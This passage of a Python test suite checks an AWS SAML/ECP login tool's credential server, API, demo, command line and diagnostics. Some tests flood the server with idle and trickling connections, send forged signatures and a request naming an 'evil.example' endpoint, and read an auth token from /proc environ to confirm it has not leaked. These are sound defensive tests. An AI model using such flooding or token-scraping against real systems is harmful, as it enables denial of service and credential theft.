                sock.connect_ex(("127.0.0.1", port))
            socks.append(sock)
        return socks

    def test_idle_and_trickling_connections_do_not_starve_the_token_holder(self):
        server, port = self.serve()
        server.request_time = 1.0       # the tests' own: the default is 5 s
        threads = threading.active_count()
        idle = self.connect(port, 100)
        trickler = self.connect(port)[0]
        trickler.sendall(b"GET /credentials HTTP/1.0\r\n")
        trickled_at = time.monotonic()
        # the holder is answered while they hold on
        for _ in range(3):
            started = time.monotonic()
            status, doc = _ask_server(port, self.TOKEN)
            self.assertEqual(status, 200, doc)
            self.assertLess(time.monotonic() - started, 1)
        # past the cap, the oldest connections that sent nothing were closed
        self.assertTrue(_wait_for(lambda: sum(map(_closed_by_peer, idle)) >= 100 - 32, 0.5,
                                  0.05))
        self.assertLessEqual(threading.active_count() - threads, 32 + 2)
        # a byte every 0.1 s does not keep a request open past its time
        closed = None
        while time.monotonic() - trickled_at < 5:
            try:
                trickler.sendall(b"X")
            except OSError:
                closed = time.monotonic() - trickled_at
                break
            if _closed_by_peer(trickler):
                closed = time.monotonic() - trickled_at
                break
            time.sleep(0.1)
        self.assertIsNotNone(closed, "a trickling request stayed open 5 s")
        self.assertGreater(closed, 0.9)
        self.assertLess(closed, 2)
        self.assertEqual(_ask_server(port, self.TOKEN)[0], 200)
        self.assertEqual(_ask_server(port, "not-the-token")[0], 403)

    def test_the_defaults(self):
        server, _ = self.serve()
        # SDKs send their request at once: 5 s is plenty, and 32 connections at once
        # cover a command starting that many `aws` at the same moment
        self.assertEqual((server.request_time, server.max_connections), (5, 32))
        self.assertGreaterEqual(server.request_queue_size, 128)

    @unittest.skipUnless(os.path.exists("/proc/self/fd"), "needs /proc")
    def test_out_of_descriptors_it_neither_spins_nor_stops_answering(self):
        child = subprocess.Popen([sys.executable, "-c", EMFILE_SERVER_CHILD, HERE, self.TOKEN],
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, env=dict(os.environ))
        self.addCleanup(child.wait)
        self.addCleanup(child.stdout.close)
        self.addCleanup(child.stderr.close)
        self.addCleanup(child.stdin.close)
        port = int(child.stdout.readline())

        def spent_in_a_second():
            time.sleep(0.3)
            before = _cpu_seconds(child.pid)
            time.sleep(1.0)
            return _cpu_seconds(child.pid) - before

        def tell(line):
            child.stdin.write(line.encode() + b"\n")
            child.stdin.flush()
            return int(child.stdout.readline())
        # its descriptors taken by connections that send nothing
        idle = self.connect(port, 30, wait=False)
        spent = spent_in_a_second()
        self.assertLess(spent, 0.3, "%.2f s of CPU in 1 s" % spent)
        started = time.monotonic()
        status, doc = _ask_server(port, self.TOKEN, timeout=10)
        self.assertEqual(status, 200, doc)
        self.assertLess(time.monotonic() - started, 5)
        # taken by something else: nothing to close, so it waits and tries again
        for sock in idle:
            sock.close()
        time.sleep(0.3)
        self.assertGreater(tell("fill"), 0)
        self.connect(port, 3, wait=False)
        spent = spent_in_a_second()
        self.assertLess(spent, 0.3, "%.2f s of CPU in 1 s" % spent)
        self.assertEqual(tell("free"), 0)
        started = time.monotonic()
        status, doc = _ask_server(port, self.TOKEN, timeout=10)
        self.assertEqual(status, 200, doc)
        self.assertLess(time.monotonic() - started, 3)


class ServerPortTest(ServerTestCase):
    """When `exec --server` ends, processes its command left in the background
    still have the URL and token: the port stays taken, answering 410 to all,
    until the last of them exits, so that no one else's server can take it
    and be asked by them."""

    def get(self, uri):
        try:
            with urllib_request.build_opener(urllib_request.ProxyHandler({})).open(
                    uri, timeout=10) as answer:
                return answer.status, json.loads(answer.read().decode())
        except urllib_error.HTTPError as e:
            return e.code, json.loads(e.read().decode())

    def test_the_port_is_kept_while_processes_the_command_left_hold_its_url(self):
        started = os.path.join(self.home, "bg")
        script = '"$0" "$1" wait "$2" </dev/null >/dev/null 2>&1 &'
        run = self.tool(["--profile", "srv", "exec", "--server", "--", "sh", "-c", script,
                         sys.executable, self.child, started], terminal=False)
        self.assertEqual((run.code, run.stderr), (0, ""), run)
        pid, uri = self.wait_lines(started, 1)[0].split(" ", 1)
        pid, port = int(pid), _port_of(uri)
        self.addCleanup(lambda: _process_state(pid) and os.kill(pid, 9))
        keepers = _listeners(port)
        for keeper in keepers:
            self.addCleanup(lambda k=keeper: _process_state(k) and os.kill(k, 9))
        self.assertEqual(len(keepers), 1, "nobody keeps port %d" % port)
        self.assertNotIn(pid, keepers)
        keeper = keepers.pop()
        status, doc = self.get(uri)
        self.assertEqual(status, 410, doc)
        self.assertNotIn("AccessKeyId", doc)
        self.assertIn("ended", doc["Message"])
        probe = socket.socket()
        with self.assertRaises(OSError):
            probe.bind(("127.0.0.1", port))
        probe.close()
        with open("/proc/%d/environ" % pid, "rb") as f:
            token = [v for v in f.read().split(b"\0")
                     if v.startswith(b"AWS_CONTAINER_AUTHORIZATION_TOKEN=")][0].split(b"=", 1)[1]
        for where in ("cmdline", "environ"):
            with open("/proc/%d/%s" % (keeper, where), "rb") as f:
                self.assertNotIn(token, f.read())
        self.assertLess(_resident_kb(keeper), 20000)
        # the last process holding the URL exits: the port is given back
        self.write(started + ".go", "")
        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
        self.assertTrue(_wait_for(lambda: _process_state(keeper) in (None, "Z"), 10))
        self.assert_no_server(port)


# ---------------------------------------------------------------------------
# Python API (for vendoring)
# ---------------------------------------------------------------------------

class PythonApiTest(LoginTestCase):
    def test_a_hint_to_a_vendoring_script_names_this_file_not_the_script(self):
        script = os.path.join(self.home, "deploy.py")
        self.write(script, "import sys\nsys.path.insert(0, %r)\nimport aws_login\ntry:\n"
                   "    aws_login.get_credentials('nope')\nexcept aws_login.ConfigError as e:\n"
                   "    print(e)\n" % HERE)
        done = subprocess.run([sys.executable, script], stdout=subprocess.PIPE, timeout=30,
                              env=dict(os.environ))
        self.assertEqual(done.stdout.decode().strip(), "profile 'nope' is not configured: run "
                         "`python3 %s --profile nope configure`" % SCRIPT)

    def test_get_credentials_with_all_values_supplied(self):
        self.configure(username="alice", factor="auto")
        credentials = aws_login.get_credentials(password=PASSWORD)
        self.assertEqual(credentials.access_key_id, self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(aws_login.cached_credentials().access_key_id, credentials.access_key_id)
        self.assertIsNone(aws_login.cached_credentials(min_seconds_left=10 ** 6))
        self.idp.expire_sessions()
        with self.assertRaises(aws_login.InteractionRequired):
            aws_login.get_credentials()                 # nothing to ask with, no prompt
        self.assertEqual(aws_login.get_credentials(password=PASSWORD, store=False)
                         .access_key_id, self.sts.issued[-1]["AccessKeyId"])

    def test_all_lists_the_api_and_the_readme_documents_exactly_it(self):
        for name in aws_login.__all__:
            self.assertTrue(hasattr(aws_login, name), name)
        self.assertEqual(len(set(aws_login.__all__)), len(aws_login.__all__))
        with open(os.path.join(HERE, "README.md")) as f:
            readme = f.read()
        section = readme.split("### From Python (vendoring)")[1].split("\n## ")[0]
        documented = set()
        for row in section.splitlines():
            if row.startswith("| `"):
                documented.update(re.findall(r"`(\w+)[(`]", row.split(" | ")[0]))
        self.assertEqual(documented, set(aws_login.__all__))

    def test_every_name_outside_all_is_private(self):
        import types
        public = sorted(name for name, value in vars(aws_login).items()
                        if not name.startswith("_") and name not in aws_login.__all__
                        and not isinstance(value, types.ModuleType))
        self.assertEqual(public, [])
        for name in aws_login.__all__:      # and what the API gives has a public name
            self.assertFalse(getattr(aws_login, name).__name__.startswith("_"), name)

    def test_login_logout_and_configure_take_a_profile_or_its_name(self):
        self.configure("api", username="alice", factor="auto", password=PASSWORD)
        profile = aws_login.read_profile("api")
        for which in (profile, "api"):
            credentials, role = aws_login.login(which, aws_login.Terminal(None),
                                                interactive=False, mode="file")
            self.assertEqual(self.credentials("api")["aws_access_key_id"],
                             credentials.access_key_id)
            self.assertEqual(aws_login.logout(which, forget=True)[0], ["api"])
            self.assertIsNone(self.credentials("api"))
        aws_login.configure(profile, values={"region": "eu-west-1"})
        aws_login.configure("api", values={"duration": "3600"})
        self.assertEqual((aws_login.read_profile("api").region,
                          aws_login.read_profile("api").duration), ("eu-west-1", 3600))

    def test_import_from_elsewhere_writes_opens_and_starts_nothing(self):
        probe = (
            "import os, sys\n"
            "events = []\n"
            "if hasattr(sys, 'addaudithook'):\n"
            "    def hook(event, args):\n"
            "        if event in ('socket.connect', 'socket.bind', 'subprocess.Popen', "
            "'os.fork', 'os.exec', 'os.posix_spawn', 'os.system', 'os.mkdir', 'os.remove'):\n"
            "            events.append(event)\n"
            "        elif event == 'open' and ((args[1] and any(c in str(args[1]) for c in 'wax+'))"
            " or (args[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):\n"
            "            events.append('open for writing: %%r' %% (args[0],))\n"
            "    sys.addaudithook(hook)\n"
            "sys.path.insert(0, %r)\n"
            "import aws_login\n"
            "print(events)\n" % HERE)
        where = tempfile.mkdtemp(dir=self.home)
        before = sorted(os.walk(self.home))
        out = subprocess.check_output([sys.executable, "-c", probe], cwd=where,
                                      env=dict(os.environ, PYTHONDONTWRITEBYTECODE="1"))
        self.assertEqual(out.strip(), b"[]")
        self.assertEqual(sorted(os.walk(self.home)), before)


# ---------------------------------------------------------------------------
# demo: the whole job against the built-in IdP and STS
# ---------------------------------------------------------------------------

_DEMO_ARN = re.compile(r"^arn:aws:sts::\d{12}:assumed-role/[\w+=,.@-]+/[\w+=,.@-]+$")


def _tree(path):
    """Every file and folder under ``path``: name, mode and bytes."""
    found = []
    for folder, dirs, files in os.walk(path):
        for name in sorted(dirs + files):
            full = os.path.join(folder, name)
            st = os.lstat(full)
            data = None
            if stat.S_ISREG(st.st_mode):
                with open(full, "rb") as f:
                    data = f.read()
            found.append((full, st.st_mode, data))
    return sorted(found, key=lambda item: item[0])


class DemoTest(HomeTestCase):
    """`demo` in a fresh home leaves it as it was; the built-in servers refuse
    what real ones refuse."""

    ACS = "https://signin.aws.amazon.com/saml"

    def demo_env(self):
        """A home with a file of the user's, and the variables that would
        send a login elsewhere pointing into it: the demo must use none."""
        self.write(os.path.join(self.home, ".aws", "credentials"),
                   "[default]\naws_access_key_id = AKIAUSERSOWN\n")
        self.tmp = tempfile.mkdtemp(dir=self.home)
        env = dict(os.environ, TMPDIR=self.tmp, AWS_PROFILE="work",
                   AWS_ENDPOINT_URL_STS="https://sts.invalid/")
        self.before = _tree(self.home)
        return env

    def check_left_nothing(self, run):
        self.assertEqual(run.returncode, 0, run.stderr)
        lines = run.stdout.decode().strip().splitlines()
        self.assertRegex(lines[-1], _DEMO_ARN)
        self.assertIn("Selection: ", run.stdout.decode())       # the menu, as a person sees it
        self.assertEqual(_tree(self.home), self.before)          # TMPDIR (in it) empty again
        found = re.search(r"in process (\d+)", run.stdout.decode())
        self.assertIsNotNone(found, run.stdout)
        self.assertIsNone(_process_state(int(found.group(1))))
        for port in re.findall(r"127\.0\.0\.1:(\d+)", run.stdout.decode()):
            with self.assertRaises(ConnectionRefusedError):
                socket.create_connection(("127.0.0.1", int(port)), 2).close()

    def test_demo_runs_in_a_fresh_home_and_leaves_it_byte_for_byte(self):
        env = self.demo_env()
        run = subprocess.run([sys.executable, SCRIPT, "demo"], env=env, timeout=60,
                             stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, start_new_session=True)
        self.check_left_nothing(run)

    def test_demo_piped_into_python(self):
        env = self.demo_env()
        with open(SCRIPT, "rb") as f:
            code = f.read()
        run = subprocess.run([sys.executable, "-", "demo"], env=env, timeout=60, input=code,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             start_new_session=True)
        self.check_left_nothing(run)

    def test_interactive_demo_asks_the_password_and_the_role(self):
        self.demo_env()
        run = run_tool(["demo", "--interactive"], [("Password: ", "demo"),
                                                   ("Selection: ", "0")],
                       env=dict(os.environ, TMPDIR=self.tmp), argv_prefix=README_START)
        self.assertEqual(run.code, 0, run)
        self.assertRegex(run.stdout.strip().splitlines()[-1], _DEMO_ARN)
        self.assertIn("111122223333", run.stdout.strip().splitlines()[-1])
        self.assertEqual(_tree(self.home), self.before)

    def test_demo_sts_refuses_a_wrong_signature(self):
        url = "http://127.0.0.1:8/"
        body = b"Action=GetCallerIdentity&Version=2011-06-15"
        keys = {"ASIADEMOKEY": ("the-secret", "the-token", "arn:aws:sts::1:assumed-role/R/s")}
        good = aws_login.Credentials("ASIADEMOKEY", "the-secret", "the-token", None)
        form = {"Content-Type": "application/x-www-form-urlencoded; charset=utf-8"}
        check = aws_login._demo_signature_refusal
        signed = aws_login.sign_request("POST", url, form, body, good, "us-east-1", "sts")
        self.assertIsNone(check("POST", "/", signed, body, keys))
        wrong = aws_login.Credentials("ASIADEMOKEY", "another-secret", "the-token", None)
        for headers, sent in (
                (aws_login.sign_request("POST", url, form, body, wrong, "us-east-1", "sts"), body),
                (signed, body + b"&x=1"),
                (dict(signed, **{"Content-Type": "text/plain"}), body),
                (dict(signed, **{"X-Amz-Security-Token": "other"}), body),
                (dict((k, v) for k, v in signed.items() if k != "Authorization"), body),
                (aws_login.sign_request("POST", url, form, body, aws_login.Credentials(
                    "ASIAUNKNOWN", "the-secret", "the-token", None), "us-east-1", "sts"), body),
                (aws_login.sign_request("POST", url, form, body, good, "us-east-1", "sts",
                                        when=datetime.datetime(2020, 1, 1,
                                                               tzinfo=datetime.timezone.utc)),
                 body)):
            self.assertIsNotNone(check("POST", "/", headers, sent, keys), headers)

    def test_demo_idp_refuses_a_malformed_ecp_request(self):
        now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
        good = aws_login._build_authn_request(self.ACS, "_abc123", now)
        check = aws_login._demo_ecp_refusal
        self.assertEqual(check("text/xml", good), ("_abc123", None))
        bad = [("text/html", good),
               ("text/xml", b"<html/>"),
               ("text/xml", b"not xml"),
               ("text/xml", aws_login._build_authn_request("https://evil.example/saml",
                                                           "_abc123", now)),
               ("text/xml", aws_login._build_authn_request(self.ACS, "_abc123",
                                                           "2001-01-01T00:00:00Z")),
               ("text/xml", good.replace(b"bindings:PAOS", b"bindings:HTTP-POST")),
               ("text/xml", good.replace(b'Version="2.0"', b'Version="1.1"')),
               ("text/xml", good.replace(b"urn:amazon:webservices", b"urn:other")),
               ("text/xml", good.replace(b' ID="_abc123"', b""))]
        for content_type, body in bad:
            request_id, reason = check(content_type, body)
            self.assertIsNone(request_id, body)
            self.assertTrue(reason, body)


# ---------------------------------------------------------------------------
# Command line
# ---------------------------------------------------------------------------

class CommandLineTest(LoginTestCase):
    """The command line itself: its help and the profile names it refuses."""

    def test_default_in_capitals_is_reserved(self):
        run = self.tool(["--profile", "DEFAULT", "configure", "--username", "x"], terminal=False)
        self.assertEqual(run.code, 2, run)
        self.assertIn("reserved", run.stderr)

    def test_help_lists_the_commands(self):
        for start in (README_START, BYTECODE_START):       # the same usage either way
            run = self.tool(["--help"], terminal=False, argv_prefix=start)
            self.assertEqual(run.code, 0)
            self.assertTrue(run.stdout.startswith("usage: aws_login.py "), run)
            for command in ("configure", "login", "logout", "credential-process", "status"):
                self.assertIn(command, run.stdout)


class HintTest(HomeTestCase):
    """Every hint names the command as the user ran it, with the same prefix."""

    def test_from_the_plugin(self):
        self.addCleanup(setattr, aws_login, "_run", aws_login._run)
        aws_login._run = aws_login._Run("aws")
        hint = aws_login._run_hint
        self.assertEqual(hint("p", "configure --ca-bundle PATH"),
                         "run `aws --profile p login configure --ca-bundle PATH`")
        self.assertEqual(hint("default"), "run `aws login`")
        self.assertEqual(hint("p", "whoami"), "run `python3 %s --profile p whoami`" % SCRIPT)

    def assert_one_error(self, run, code, hint):
        self.assertEqual(run.code, code, run)
        self.assertEqual(len(run.stderr.splitlines()), 1, run)
        self.assertTrue(run.stderr.startswith("aws_login: error: "), run)
        self.assertIn(hint, run.stderr)
        self.assertNotIn("  ", run.stderr)

    def test_from_the_file(self):
        # The README's route, and the bytecode start most tests use, which must
        # name the file just as it does.
        for start in (README_START, BYTECODE_START):
            run = run_tool(["--profile", "prod", "login"], env=dict(os.environ),
                           terminal=False, argv_prefix=start)
            self.assert_one_error(run, 3, "run `python3 %s --profile prod configure`" % SCRIPT)
            run = run_tool(["whoami"], env=dict(os.environ), terminal=False, argv_prefix=start)
            self.assert_one_error(run, 3, "profile 'default' is not configured: run `python3 "
                                          "%s configure`" % SCRIPT)
            self.write(self.config_file, "[default]\necp_endpoint_url = https://idp.test/\n")
            run = run_tool(["whoami"], env=dict(os.environ), terminal=False, argv_prefix=start)
            self.assert_one_error(run, 10, "not logged in to profile default: run `python3 %s "
                                           "login`" % SCRIPT)
            os.unlink(self.config_file)

    def test_from_the_installed_command(self):
        bin_dir = os.path.join(self.home, "bin")
        command = os.path.join(bin_dir, "aws-login")
        # what pip's console-script wrapper does
        self.write(command, "#!%s\nimport sys\nsys.path.insert(0, %r)\nfrom aws_login import "
                   "main\nsys.exit(main())\n" % (sys.executable, HERE), mode=0o755)
        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False,
                       argv_prefix=[command])
        self.assert_one_error(run, 3, "run `aws-login --profile prod configure`")
        run = run_tool(["--help"], env=dict(os.environ), terminal=False, argv_prefix=[command])
        self.assertTrue(run.stdout.startswith("usage: aws-login "), run)

    def test_piped_into_python(self):
        with open(SCRIPT, "rb") as f:
            source = f.read()
        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False,
                       stdin=source, argv_prefix=[sys.executable, "-"])
        self.assert_one_error(run, 3, "save this script as aws_login.py and run `python3 "
                                      "aws_login.py --profile prod configure`, or pipe it "
                                      "again to `python3 - --profile prod configure`")
        run = run_tool(["login"], env=dict(os.environ), terminal=False, stdin=source,
                       argv_prefix=[sys.executable, "-"])
        self.assert_one_error(run, 3, "`python3 aws_login.py configure`")


class EveryPathTest(LoginTestCase):
    """A rule that holds on the main path holds on the side paths too: the
    installed command, the configured credential_process, the piped file, no
    terminal, a flag instead of a setting."""

    def installed_command(self):
        """What pip's console-script wrapper is: aws_login imported, main() run."""
        command = os.path.join(self.home, "bin", "aws-login")
        self.write(command, "#!%s\nimport sys\nsys.path.insert(0, %r)\nfrom aws_login import "
                   "main\nsys.exit(main())\n" % (sys.executable, HERE), mode=0o755)
        return command

    def one_error(self, run, code):
        self.assertEqual((run.code, run.stdout), (code, ""), run)
        self.assertEqual(len(run.stderr.splitlines()), 1, run)
        self.assertTrue(run.stderr.startswith("aws_login: error: "), run)
        self.assertNotIn("Traceback", run.stderr)
        return run.stderr

    def refused_url(self):
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        self.addCleanup(sock.close)     # bound, not listening: refused, and not reused
        return "http://127.0.0.1:%d/" % sock.getsockname()[1]

    # 7: hints, help and errors name the command as run, with one prefix
    def test_help_names_the_installed_command(self):
        run = self.tool(["env", "--help"], terminal=False, argv_prefix=[self.installed_command()])
        self.assertIn('eval "$(aws-login env)"', run.stdout.replace("\n", " "))

    def test_the_configured_command_names_the_installed_command(self):
        command = self.installed_command()
        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url, "--username", "alice",
                         "--factor", "auto", "--credential-process"], terminal=False,
                        argv_prefix=[command])
        self.assertEqual(run.code, 0, run)
        import configparser
        import shlex
        parser = configparser.RawConfigParser()
        parser.read_string(self.read(os.environ["AWS_CONFIG_FILE"]))
        words = shlex.split(parser.get("default", "credential_process"))
        error = self.one_error(run_tool(words[1:], env=dict(os.environ), terminal=False,
                                        argv_prefix=words[:1]), 11)
        self.assertIn("run `aws-login login`", error)
        self.assertNotIn("python3", error)

    def test_argument_errors_have_our_prefix_and_the_commands_usage(self):
        run = self.tool(["login", "--frce"], terminal=False, argv_prefix=[self.installed_command()])
        self.assertEqual(run.code, 2, run)
        self.assertTrue(run.stderr.startswith("usage: aws-login login "), run)
        self.assertEqual(run.stderr.splitlines()[-1], "aws_login: error: unrecognized argument: "
                                                      "--frce (did you mean --force?)")

    def test_an_abbreviation_of_one_options_aliases_is_that_option(self):
        os.unlink(self.config_file) if os.path.exists(self.config_file) else None
        run = self.tool(["login", "--rol", "Admin"], terminal=False)
        self.assertIn("is not configured", self.one_error(run, 3))

    # 8: one prompt helper
    def test_end_of_input_at_any_prompt_is_a_clean_exit_11(self):
        for options, answers in (({}, [("Password: ", b"\x04")]),
                                 ({"factor": ""}, [("Password: ", PASSWORD), ("Factor: ", b"\x04")]),
                                 ({"username": ""}, [("Username [", b"\x04")])):
            self.configure(**dict({"username": "alice", "factor": "auto"}, **options))
            run = self.tool(["login"], answers)
            self.assertIn("no answer was given", self.one_error(run, 11), answers)
            self.assertTrue(run.echo)

    # 9: a failed command writes nothing
    def test_piped_configure_that_fails_writes_nothing(self):
        with open(SCRIPT, "rb") as f:
            source = f.read()
        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url, "--username", "bob",
                         "--credential-process"], terminal=False, stdin=source,
                        argv_prefix=[sys.executable, "-"])
        self.one_error(run, 3)
        self.assertEqual(os.listdir(self.home), ["pki"])

    # 10: an endpoint that is no ECP endpoint is said before the password is asked
    def test_no_ecp_endpoint_is_said_before_the_password(self):
        self.configure(username="alice", factor="auto")
        for status, body in ((404, b"<html><body>Not Found</body></html>"),
                             (400, b"<html><body>You're speaking plain HTTP to an SSL-enabled "
                                   b"server port.</body></html>"),
                             (503, b"<html><body>down</body></html>")):
            self.idp.override = (status, {"Content-Type": "text/html"}, body)
            run = self.tool(["login"])
            self.assertIn("HTTP %d" % status, self.one_error(run, 5))
            self.assertNotIn("Password", run.tty)

    # 11: an empty password is never sent
    def test_an_empty_password_is_asked_again_not_sent(self):
        self.configure(username="alice", factor="auto", password="")
        run = self.tool(["login"], [("Password: ", ""), ("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertIn("The password is empty", run.tty)
        self.assertEqual([_parse_basic(r["authorization"])[1] for r in self.idp.requests
                          if r["authorization"]], [PASSWORD])

    # 12: errors name the fix the user needs
    def test_a_wrong_ca_bundle_flag_is_named(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        wrong = os.path.join(self.home, "wrong.pem")
        self.write(wrong, UNTRUSTED_CERT_PEM)
        error = self.one_error(self.tool(["login", "--ca-bundle", wrong], terminal=False), 8)
        self.assertIn("the CA bundle %s (the --ca-bundle flag)" % wrong, error)
        self.assertNotIn("set ca_bundle in the profile", error)

    def test_https_to_a_plain_http_port_is_said(self):
        plain = FakeIdP(tls=False).start()
        self.addCleanup(plain.stop)
        self.configure(ecp_endpoint_url=plain.url.replace("http://", "https://"),
                       username="alice", factor="auto")
        error = self.one_error(self.tool(["login"]), 8)
        self.assertIn("answers in plain HTTP, not TLS", error)
        self.assertNotIn("WRONG_VERSION_NUMBER", error)

    def test_an_unreachable_sts_is_named_with_its_variable(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        url = self.refused_url()
        error = self.one_error(self.tool(["login"], env={"AWS_ENDPOINT_URL_STS": url},
                                         terminal=False), 8)
        self.assertIn("STS at %s (set by AWS_ENDPOINT_URL_STS): connection refused" % url, error)

    def test_no_terminal_for_the_password_names_the_ways_without_one(self):
        self.configure(username="alice", factor="auto")
        error = self.one_error(self.tool(["login"], terminal=False), 11)
        self.assertIn("--password-stdin", error)
        self.assertNotIn("set it in the profile", error)

    def test_the_no_verify_flag_is_named_in_its_warning(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        run = self.tool(["login", "--no-verify-ssl"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn("(the --no-verify-ssl flag)", run.stderr)
        self.assertNotIn("verify_ssl_certificate = false", run.stderr)

    def test_a_session_that_never_was_has_not_ended(self):
        self.configure(username="alice", factor="auto")
        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
        error = self.one_error(self.tool(["credential-process"], terminal=False), 11)
        self.assertIn("no IdP session of alice@127.0.0.1:%d is saved" % self.idp.port, error)
        self.assertNotIn("has ended", error)

    # 13: one role resolver
    def test_a_role_name_needs_an_endpoint_to_ask(self):
        error = self.one_error(self.tool(["--profile", "new", "configure", "--role-arn",
                                          "ReadOnly"], terminal=False), 3)
        self.assertIn("set ecp_endpoint_url first", error)
        self.assertFalse(os.path.exists(self.config_file))

    def test_a_role_name_is_resolved_with_the_settings_being_made(self):
        self.configure(username="nobody", factor="auto",
                       ecp_endpoint_url=self.refused_url().replace("http:", "https:"))
        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url, "--username", "bob",
                         "--role-arn", "ReadOnly"], [("Password: ", "bob-pass")])
        self.assertEqual(run.code, 0, run)
        self.assertIn("role_arn = %s\n" % READONLY, self.read(self.config_file))

    def test_this_logins_flags_are_checked_as_settings_are(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        for flags, words in ((["--region", "Mars-1"], "not an AWS region name"),
                             (["--ca-bundle", os.path.join(self.home, "none.pem")],
                              "is not a file")):
            run = self.tool(["login"] + flags, terminal=False)
            self.assertIn(words, self.one_error(run, 3))
        self.assertEqual(self.idp.requests, [])

    def test_configure_asks_again_for_a_role_name_that_names_no_role(self):
        self.configure(username="bob", factor="auto")
        keep = [("ECP Endpoint URL [", ""), ("Username [", ""), ("Enable Keyring [", ""),
                ("Duo Factor [", "")]
        run = self.tool(["configure"], keep + [
            ("Role ARN [None]: ", "Nope"), ("Password: ", "bob-pass"),
            ("Role ARN [None]: ", "readonly"), ("Region [None]: ", ""),
            ("Use credential_process [False]: ", "")])
        self.assertEqual(run.code, 0, run)
        self.assertIn("does not offer role Nope", run.tty)
        self.assertIn("role_arn = %s\n" % READONLY, self.read(self.config_file))

    def test_configure_takes_a_role_by_name_as_login_does(self):
        self.configure(username="bob", factor="auto")
        error = self.one_error(self.tool(["configure", "--role-arn", "readonly"],
                                         terminal=False), 11)
        self.assertIn("readonly is a role name, and finding its ARN needs a login to the IdP",
                      error)
        run = self.tool(["configure", "--role-arn", "readonly"], [("Password: ", "bob-pass")])
        self.assertEqual(run.code, 0, run)
        self.assertIn("Asking the IdP which role readonly is.", run.tty)
        self.assertIn("role_arn = %s\n" % READONLY, self.read(self.config_file))
        # the IdP session is kept: the next name needs no password
        run = self.tool(["configure", "--role-arn", "team/Dev"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn("role_arn = %s\n" % DEV, self.read(self.config_file))
        before = self.read(self.config_file)
        error = self.one_error(self.tool(["configure", "--role-arn", "Nope"], terminal=False), 6)
        self.assertIn("does not offer role Nope", error)
        self.assertEqual(self.read(self.config_file), before)


class StatusTest(LoginTestCase):
    def test_status_lists_every_profile(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        self.configure("idle", username="alice", factor="auto")
        run = self.tool(["login"], terminal=False)
        pid = int(re.search(r"pid (\d+)", run.stderr).group(1))
        run = self.tool(["status", "--output", "json"], terminal=False)
        rows = dict((row["profile"], row) for row in json.loads(run.stdout))
        self.assertEqual(sorted(rows), ["default", "idle"])
        me = rows["default"]
        self.assertEqual((me["mode"], me["logged_in"], me["role_arn"], me["account"],
                          me["refresher_pid"], me["refresher_alive"]),
                         ("file", True, ADMIN, ACCOUNT_A, pid, True))
        self.assertEqual(me["expiration"], self.credentials()["aws_login_expiration"])
        self.assertLess(aws_login._parse_timestamp(me["next_renewal"]),
                        aws_login._parse_timestamp(me["expiration"]))
        self.assertEqual((rows["idle"]["logged_in"], rows["idle"]["refresher_pid"]),
                         (False, None))
        text = self.tool(["status"], terminal=False).stdout.splitlines()
        self.assertEqual(text[0].split(), ["PROFILE", "MODE", "STATE", "ROLE", "ACCOUNT",
                                           "EXPIRES", "REFRESHER", "NEXT", "RENEWAL"])
        self.assertRegex(text[1], r"^default +file +logged in +Admin +%s .* pid %d " %
                         (ACCOUNT_A, pid))
        self.assertRegex(text[2], r"^idle +file +logged out +- +- +- +- +-$")


class DoctorTest(LoginTestCase):
    """`doctor`: one line per check against the fake IdP and STS; sends no
    password, writes nothing, exits with the first failing kind's code."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto")
        empty = os.path.join(self.home, "empty-path")
        os.mkdir(empty)
        # no AWS CLI to find: the plugin check is information, and quick
        self.quiet = {"PATH": empty, "PYENV_ROOT": os.path.join(self.home, "no-pyenv")}

    def files(self):
        """Every file under the home, with its bytes and mode."""
        found = {}
        for folder, _, names in os.walk(self.home):
            for name in names:
                path = os.path.join(folder, name)
                with open(path, "rb") as f:
                    found[path] = (f.read(), os.stat(path).st_mode)
        return found

    def doctor(self, env=None, args=(), argv_prefix=None):
        full = dict(self.quiet)
        full.update(env or {})
        before = self.files()
        run = self.tool(["doctor"] + list(args), env=full, terminal=False,
                        argv_prefix=argv_prefix)
        self.assertEqual(self.files(), before, "doctor wrote: %s" % run)
        self.assertNotIn("Traceback", run.stderr)
        for request in self.idp.requests + self.sts.requests:
            self.assertIsNone(request["authorization"], "a password went out")
        return run

    def line(self, run, word):
        """The line of ``run`` of check ``word``, else the first that names it."""
        lines = run.stdout.splitlines()
        found = [l for l in lines if l.split()[1:2] == [word]] or [l for l in lines if word in l]
        self.assertTrue(found, "no line names %r: %s" % (word, run.stdout))
        return found[0]

    def test_a_good_setup_holds_and_nothing_is_written(self):
        keyring = FakeKeyring(self.home)
        keyring.set("alice@%s" % self.idp.host_port, PASSWORD)
        self.configure(enable_keyring="true")
        run = self.doctor(keyring.env())
        self.assertEqual(run.code, 0, run)
        self.assertEqual(run.stderr, "")
        for line in run.stdout.splitlines():
            self.assertRegex(line, r"^(ok|info) +[a-z]")
        for check in ("settings", "dns", "tcp", "tls", "ecp", "clock", "keyring", "refused",
                      "mode", "refresher", "plugin"):
            self.line(run, check)
        self.assertIn("HTTP 401", self.line(run, "ecp"))
        self.assertIn("holds a password", self.line(run, "keyring"))
        self.assertNotIn(PASSWORD, run.stdout + run.stderr)
